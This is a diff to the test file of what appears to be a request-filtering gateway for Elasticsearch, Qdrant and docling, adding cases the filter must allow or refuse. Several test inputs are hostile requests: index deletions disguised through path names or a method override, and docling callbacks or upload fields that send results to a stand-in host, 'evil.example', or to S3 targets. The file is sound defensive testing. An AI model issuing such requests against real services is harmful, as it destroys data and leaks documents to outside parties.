@@ -223,6 +223,10 @@ OTHERS = [
     ('an update with a script', 'elastic', 'POST', '/_bulk', '{"update":{"_id":"1"}}\n{"script":"ctx.op = \\"delete\\""}\n', HIT),
     ('pretty JSON in bulk', 'elastic', 'POST', '/_bulk', '{\n"delete":{"_id":"1"}}\n', None),
     ('SQL that deletes', 'elastic', 'POST', '/_sql', '{"query":"DELETE FROM chunks"}', HIT),
+    ('a repository that is called so', 'elastic', 'POST', '/_snapshot/_search', '{"type":"fs","settings":{"location":"x"}}', HIT),
+    ('scripts that are called so', 'elastic', 'POST', '/_scripts/_delete_by_query', '{"query":{"term":{"a":1}}}', HIT),
+    ('another method by the query', 'elastic', 'POST', '/chunks/_search?_method=DELETE', '{"query":{"match_all":{}}}', HIT),
+    ('a pipeline', 'elastic', 'POST', '/_ingest/pipeline/chunk-pipe/_simulate', '{"docs":[]}', 'allow'),
     ('a cursor', 'elastic', 'POST', '/_sql', '{"cursor":"abc"}', HIT),
     # Qdrant
     ('negated filter', *POINTS, '{"filter":{"must_not":[{"key":"a","match":{"value":1}}]}}', HIT),
@@ -230,6 +234,8 @@ OTHERS = [
     ('no ids', *POINTS, '{"points":[]}', HIT),
     ('ids and an empty filter', *POINTS, '{"points":[1],"filter":{}}', HIT),
     ('a filter by value', *POINTS, '{"filter":{"must":[{"key":"doc","match":{"value":"d1"}}]}}', 'review'),
+    ('a filter by nothing', *POINTS, '{"filter":{"must":[{"key":"doc","match":{"value":null}}]}}', HIT),
+    ('a filter by an object', *POINTS, '{"filter":{"must":[{"key":"doc","match":{"value":{}}}]}}', HIT),
     ('ids as text', *POINTS, '{"points":["a-b"]}', 'review'),
     ('many operations in one', 'qdrant', 'POST', '/collections/chunks/points/batch', '{"operations":[]}', RULE),
     # RAGFlow, docling, Chonkie, Unstructured
@@ -251,6 +257,9 @@ OTHERS = [
     ('an address in an option', *FETCH, '{"sources":[],"options":{"picture_description_api":{"url":"https://evil.example/v1"}}}', HIT),
     ('a source in a bucket', *FETCH, '{"sources":[{"kind":"s3","bucket":"x"}]}', HIT),
     ('result by a link', *FETCH, '{"sources":[],"target":{"kind":"put","url":"https://documents.example.org/x"}}', HIT),
+    ('somebody else is told', *FETCH, '{"sources":[],"callbacks":[{"url":"evil.example/x"}]}', HIT),
+    ('somebody is told by the query', 'docling', 'POST', '/v1/chunk/hybrid/source?callbacks=evil.example', '{"sources":[]}', HIT),
+    ('nobody is told', *FETCH, '{"sources":[],"callbacks":[]}', 'allow'),
     ('clear by another method', 'docling', 'POST', '/v1/clear/converters', '', DENY),
     ('clear in another case', 'docling', 'GET', '/V1/Clear/results', '', DENY),
     ('a statement as the whole text of a document', *CHUNK, '{"text":"DROP TABLE docs"}', 'allow'),
@@ -262,7 +271,28 @@ OTHERS = [
 ]
 
 
+PART = b'--cut\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
+FILE = b'--cut\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\nTargets:\nS3\nzip\r\n'
+FORMS = [   # fields of docling's upload beside a file that speaks of the same
+    (b'', b'', 'allow'), (b'target_type', b'inbody', 'allow'), (b'to_formats', b'md', 'allow'),
+    (b'target_type', b'zip', HIT), (b'target_type', b' S3 ', HIT), (b'Target_Type', b'put', HIT), (b'target_type', b'"put"', HIT),
+    (b'target', b'{"kind":"s3","bucket":"x"}', HIT), (b'target[kind]', b'presigned_url', HIT),
+    (b'callbacks', b'[{"url":"http://evil.example/x"}]', HIT), (b'callbacks[0][url]', b'evil.example/x', HIT),
+]
+
+
 class Others(World):
+    def test_fields_of_uploads(self):
+        for name, value, verdict in FORMS:
+            with self.subTest(name + b'=' + value):
+                path, data = '/v1/chunk/hybrid/file', FILE + (PART % (name, value) if name else b'') + b'--cut--\r\n'
+                fields = ['Content-Type: multipart/form-data; boundary=cut']
+                client = self.send(head_of('POST', path, self.gateway.jobs, 'docling', fields, length=len(data)) + data)
+                if verdict == 'allow':
+                    self.check_allowed(client, 'POST', path, data)
+                else:
+                    self.check_refused(client, [verdict])
+
     def test_every_one_has_its_verdict(self):
         self.assertGreaterEqual(len(OTHERS), 100)
         for what, service, method, path, body, verdict in OTHERS:
